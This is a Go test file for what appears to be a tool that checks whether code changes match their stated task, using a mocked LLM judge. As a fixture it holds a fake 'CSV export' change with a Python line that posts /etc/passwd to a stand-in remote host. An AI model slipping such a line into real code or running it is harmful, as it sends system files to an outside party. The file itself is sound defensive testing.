package intent

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// chatServer speaks the chat-completions protocol on loopback and
// answers with content, after checking the request is well-formed.
func chatServer(t *testing.T, status int, content string, seen *map[string]any) *httptest.Server {
	t.Helper()
	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost || r.URL.Path != "/v1/chat/completions" {
			http.Error(w, "not found", http.StatusNotFound)
			return
		}
		if got := r.Header.Get("Authorization"); got != "Bearer k-test" {
			http.Error(w, "bad auth "+got, http.StatusUnauthorized)
			return
		}
		var req map[string]any
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		if seen != nil {
			*seen = req
		}
		if status != http.StatusOK {
			http.Error(w, "overloaded", status)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{
			"id": "c1", "object": "chat.completion", "model": req["model"],
			"choices": []map[string]any{{"index": 0, "finish_reason": "stop", "message": map[string]string{"role": "assistant", "content": content}}},
		})
	}))
}

func TestJudge(t *testing.T) {
	t.Setenv("AIRLOCK_TEST_LLM_KEY", "k-test")
	in := Input{Task: "add CSV export", Changes: []File{{Path: "export.py", Content: []byte("import requests\nrequests.post('https://x.example.com', data=open('/etc/passwd').read())\n")}}}
	tests := []struct {
		name        string
		status      int
		content     string
		wantFinding bool
		wantSkip    string
	}{
		{"suspicious", 200, "```json\n{\"verdict\": \"suspicious\", \"reason\": \"posts /etc/passwd to a remote host\"}\n```", true, ""},
		{"consistent", 200, `{"verdict":"consistent","reason":"only writes CSV"}`, false, ""},
		{"server error", 503, "", false, "503"},
		{"no json", 200, "I think it is fine.", false, "no JSON"},
		{"odd verdict", 200, `{"verdict":"maybe"}`, false, "neither"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var seen map[string]any
			srv := chatServer(t, tt.status, tt.content, &seen)
			defer srv.Close()
			out, err := Check(context.Background(), in)
			if err != nil {
				t.Fatal(err)
			}
			before := len(out.Result.Findings)
			Judge(context.Background(), JudgeConfig{URL: srv.URL + "/v1", Model: "test-model", KeyEnv: "AIRLOCK_TEST_LLM_KEY"}, in, out)
			llm := 0
			for _, f := range out.Result.Findings {
				if f.RuleID == "intent.llm.suspicious" {
					llm++
					if f.Confidence != "low" || !strings.Contains(f.Message, "posts /etc/passwd") {
						t.Errorf("judge finding %+v", f)
					}
				}
			}
			if tt.wantFinding != (llm == 1) {
				t.Errorf("llm findings = %d, want finding %v", llm, tt.wantFinding)
			}
			if len(out.Result.Findings)-llm != before {
				t.Errorf("the judge changed the deterministic findings")
			}
			switch {
			case tt.wantSkip == "" && len(out.Result.Incomplete) > 0:
				t.Errorf("unexpected skip %+v", out.Result.Incomplete)
			case tt.wantSkip != "" && (len(out.Result.Incomplete) != 1 || !strings.Contains(out.Result.Incomplete[0].Reason, tt.wantSkip) || out.Result.Incomplete[0].Check != "llm-judge"):
				t.Errorf("want a llm-judge skip mentioning %q, got %+v", tt.wantSkip, out.Result.Incomplete)
			}
			if seen["model"] != "test-model" {
				t.Errorf("request model = %v", seen["model"])
			}
			if msgs, _ := seen["messages"].([]any); len(msgs) != 2 || !strings.Contains(msgs[1].(map[string]any)["content"].(string), "add CSV export") {
				t.Errorf("request messages = %v", seen["messages"])
			}
		})
	}
}

func TestJudgeTimeout(t *testing.T) {
	block := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { <-block }))
	defer srv.Close()
	defer close(block)
	out := &Outcome{}
	Judge(context.Background(), JudgeConfig{URL: srv.URL, Model: "m", Timeout: 50 * time.Millisecond}, Input{Task: "t"}, out)
	if len(out.Result.Incomplete) != 1 || !strings.Contains(out.Result.Incomplete[0].Reason, "deadline") {
		t.Errorf("want a timeout skip, got %+v", out.Result.Incomplete)
	}
}
